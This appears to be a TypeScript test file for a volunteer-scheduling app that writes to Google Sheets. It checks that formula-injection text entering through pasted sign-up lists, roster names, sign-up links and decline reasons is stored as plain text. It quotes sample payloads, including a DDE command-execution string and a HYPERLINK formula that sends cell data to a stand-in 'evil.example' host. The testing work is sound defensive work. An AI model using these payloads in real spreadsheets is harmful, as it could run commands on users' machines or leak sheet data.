/**
 * Formula injection, end to end: text that a spreadsheet would run (`=HYPERLINK(...)`,
 * `=IMPORTXML(...)`, `+cmd|' /C calc'!A0`, `@SUM(1)`, `-2+3`) enters through every way text
 * reaches the sheet from outside it, and must land in the emulator's stored cells as a
 * stringValue, never a formula:
 * - a WeChat 接龙 pasted through `POST /signups/import`, or into the Paste tab (`?from=sheet`);
 * - a roster name pasted as text by an organizer, carried by ZoneCrew into other tabs: the Plan
 *   and Messages tabs (generate, publish), the Problems tab, and the Signups row a personal
 *   sign-up link (`/s/{code}`) appends;
 * - the sign-up form's one field, and a volunteer's free-text decline reason on `/c/{code}`.
 */
import { SELF } from "cloudflare:test";
import fc from "fast-check";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { localDate, localTimeToEpoch } from "../../src/domain/local-time.ts";
import { generateDemoCompound } from "../../src/emulator/demo-compound.ts";
import { workerAt } from "./support/console.ts";
import { seedDemo, sheetsCall } from "./support/emulator.ts";
import { expectAllText, formulaLike, formulaText, fuzz, storedCells, type StoredCell } from "./support/hostile.ts";
import {
  answer,
  auth,
  countRows,
  drainOutbox,
  ORIGIN,
  pathOf,
  publish,
  resetDay,
  SHEET,
  tomorrow,
} from "./support/links.ts";
import { NOW } from "./support/clock.ts";

const VOLUNTEERS = "'志愿者 Volunteers'";
const SIGNUPS = "'报名 Signups'";
const PASTE = "'接龙粘贴 Paste'";
const TZ = "Asia/Shanghai";

beforeAll(async () => {});

beforeEach(async () => {
  await resetDay();
  await seedDemo(SHEET);
});

async function values(range: string): Promise<string[][]> {
  const response = await sheetsCall(SHEET, "GET", `/values/${encodeURIComponent(range)}`);
  return ((await response.json()) as { values?: string[][] }).values ?? [];
}

/** Pastes names into the Volunteers tab as text (RAW), as from a chat message; returns id -> name. */
async function renameAsText(ids: readonly string[], names: readonly string[]): Promise<Map<string, string>> {
  const roster = await values(VOLUNTEERS);
  const data = ids.map((id, i) => {
    const row = roster.findIndex((r) => r[0] === id);
    expect(row, id).toBeGreaterThan(0);
    return { range: `${VOLUNTEERS}!B${row + 1}`, values: [[names[i % names.length]]] };
  });
  const response = await sheetsCall(SHEET, "POST", "/values:batchUpdate", { valueInputOption: "RAW", data });
  expect(response.status).toBe(200);
  return new Map(ids.map((id, i) => [id, names[i % names.length]!]));
}

/** Active volunteers of the demo who are not signed up for tomorrow. */
function freeVolunteers(): Array<{ id: string; name: string; building: string }> {
  const demo = generateDemoCompound({ seed: 20220419, date: tomorrow() });
  const signed = new Set(demo.tabs.signups.rows.map((r) => r[1]));
  return demo.tabs.volunteers.rows
    .filter((r) => !signed.has(r[0]) && r[6] === "是 Yes")
    .map((r) => ({ id: r[0]!, name: r[1]!, building: r[4]! }));
}

const texts = (cells: StoredCell[][]) =>
  new Set(cells.flat().flatMap((c) => (c.userEnteredValue?.stringValue ? [c.userEnteredValue.stringValue] : [])));

describe("formula-looking text lands as text", () => {
  it("roster names carried into the Plan, Messages and Problems tabs, and a decline reason", async () => {
    const signed = (await values(SIGNUPS)).filter((r) => r[0] === tomorrow()).map((r) => r[1]!);
    const renamed = await renameAsText(signed.slice(0, formulaLike.length), formulaLike);
    const generated = await SELF.fetch(`${ORIGIN}/api/demo/plans/${tomorrow()}/generate`, {
      method: "POST",
      headers: auth,
    });
    expect(generated.status).toBe(200);
    const published = await publish();
    // A decline with a formula as its reason (kept in D1; the replan rewrites Plan rows and notes).
    const declined = published.links.find((l) => renamed.has(l.volunteerId) && l.url)!;
    const response = await answer(pathOf(declined.url!), "decline", { reason: formulaLike[0] });
    expect(response.status).toBe(303);
    await drainOutbox(10);

    const plan = await storedCells(SHEET, "'分工 Plan'");
    const messages = await storedCells(SHEET, "'群消息 Messages'");
    const problems = await storedCells(SHEET, "'问题 Problems'");
    expect(expectAllText(plan, "Plan tab")).toBeGreaterThan(100);
    expect(expectAllText(messages, "Messages tab")).toBeGreaterThan(0);
    expect(expectAllText(problems, "Problems tab")).toBeGreaterThan(0);
    // The renamed volunteers were really planned (the names reached the Plan tab, normalized by the
    // roster's name rules), and the raw values reached the Problems tab verbatim, as text.
    const planned = plan.filter((r) => renamed.has(r[1]?.userEnteredValue?.stringValue ?? ""));
    expect(planned.length).toBeGreaterThanOrEqual(5);
    const raw = [...texts(problems)].filter((t) => /^[=+\-@]/.test(t));
    expect(raw.length, "formula-looking values copied into the Problems tab").toBeGreaterThan(0);
  }, 60_000);

  it("a personal sign-up link appends the roster's name as text; a formula as the choice is refused", async () => {
    const [person] = freeVolunteers();
    const name = '=HYPERLINK("http://evil.example/?"&B2,"报名 Sign up")';
    await renameAsText([person!.id], [name]);
    expect((await SELF.fetch(`${ORIGIN}/api/demo/sync`, { method: "POST", headers: auth })).status).toBe(200);
    const issued = await SELF.fetch(`${ORIGIN}/api/demo/signups/links`, {
      method: "POST",
      headers: { ...auth, "content-type": "application/json" },
      body: JSON.stringify({ volunteerIds: [person!.id] }),
    });
    const path = pathOf(((await issued.json()) as { links: Array<{ url: string }> }).links[0]!.url);
    // Noon today: the sign-up for tomorrow is open.
    const at = workerAt(localTimeToEpoch(localDate(NOW, TZ), "12:00", TZ));
    const page = await (await at(new Request(`${ORIGIN}${path}`))).text();
    const token = /name="t" value="([^"]+)"/.exec(page)![1]!;
    const post = (availability: string) =>
      at(
        new Request(`${ORIGIN}${path}`, {
          method: "POST",
          redirect: "manual",
          headers: { "content-type": "application/x-www-form-urlencoded", origin: ORIGIN },
          body: new URLSearchParams({ t: token, availability }),
        }),
      );

    const rowsBefore = (await values(SIGNUPS)).length;
    await fc.assert(
      fc.asyncProperty(formulaText, async (choice) => {
        expect((await post(choice)).status).toBe(400);
      }),
      fuzz(0x5160, 6),
    );
    expect(await countRows("link_signups")).toBe(0);
    expect(await values(SIGNUPS)).toHaveLength(rowsBefore);

    expect((await post("am")).status).toBe(303);
    const stored = await storedCells(SHEET, SIGNUPS);
    expect(stored).toHaveLength(rowsBefore + 1);
    const appended = stored.slice(rowsBefore);
    expectAllText(appended, "appended Signups row");
    expect(appended[0]![1]?.userEnteredValue?.stringValue).toBe(person!.id);
  }, 60_000);

  it("a pasted 接龙, through the API or the Paste tab: every cell written is text", async () => {
    const free = freeVolunteers();
    const rowsBefore = (await values(SIGNUPS)).length;
    let added = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constantFrom(...free.slice(0, 40)), formulaText, fc.boolean()), {
          minLength: 1,
          maxLength: 4,
        }),
        formulaText,
        async (lines, stray) => {
          const chain = [
            "#接龙 明天志愿者报名",
            ...lines.map(([p, formula, first], i) =>
              first ? `${i + 1}. ${formula} ${p.name} 全天` : `${i + 1}. ${p.name} ${p.building} 上午 ${formula}`,
            ),
            `${lines.length + 1}. ${stray}`,
          ].join("\n");
          const response = await SELF.fetch(`${ORIGIN}/api/demo/signups/import`, {
            method: "POST",
            headers: { ...auth, "content-type": "text/plain; charset=utf-8" },
            body: chain,
          });
          expect(response.status, chain).toBeLessThan(500);
          if (response.status === 200) added += ((await response.json()) as { added: number }).added;
          expectAllText((await storedCells(SHEET, SIGNUPS)).slice(rowsBefore), "imported Signups rows");
        },
      ),
      fuzz(0x1e1d, 6),
    );
    expect(added).toBeGreaterThan(0);

    // The same through the sheet's own paste box: the Result cell beside it is text too.
    const [p] = free.slice(50);
    const chain = ["#接龙 明天志愿者报名", `1. ${p!.name} ${p!.building} 全天 @SUM(1)`, "2. =IMPORTXML(A1,B1)"].join(
      "\n",
    );
    await sheetsCall(SHEET, "PUT", `/values/${encodeURIComponent(`${PASTE}!A2`)}?valueInputOption=RAW`, {
      values: [[chain]],
    });
    const fromSheet = await SELF.fetch(`${ORIGIN}/api/demo/signups/import?from=sheet`, {
      method: "POST",
      headers: auth,
    });
    expect(fromSheet.status).toBe(200);
    const paste = await storedCells(SHEET, `${PASTE}!C1:C5`);
    expect(expectAllText(paste, "Paste tab Result")).toBeGreaterThan(1);
    expectAllText((await storedCells(SHEET, SIGNUPS)).slice(rowsBefore), "Signups rows after the paste box");
  }, 60_000);
});
